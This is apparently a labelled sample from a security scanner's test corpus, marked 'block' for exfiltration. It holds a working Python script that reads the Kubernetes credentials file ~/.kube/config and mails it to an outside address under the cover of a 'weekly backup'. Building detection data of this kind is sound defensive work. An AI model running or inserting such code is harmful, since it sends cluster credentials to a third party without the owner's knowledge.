# pyguard-corpus: verdict=block category=exfil rules=PG601,PG606
# what: attaches ~/.kube/config to an e-mail built with EmailMessage and sends it through an SMTP server
import os
import smtplib
from email.message import EmailMessage

home = os.environ.get("HOME", "/root")
with open(os.path.join(home, ".kube", "config"), "rb") as handle:
    config = handle.read()

message = EmailMessage()
message["Subject"] = "weekly backup"
message["From"] = "backup@example.com"
message["To"] = "archive@example.net"
message.set_content("see attachment")
message.add_attachment(config, maintype="application", subtype="octet-stream", filename="config")

with smtplib.SMTP("mail.example.net", 587) as server:
    server.starttls()
    server.send_message(message)
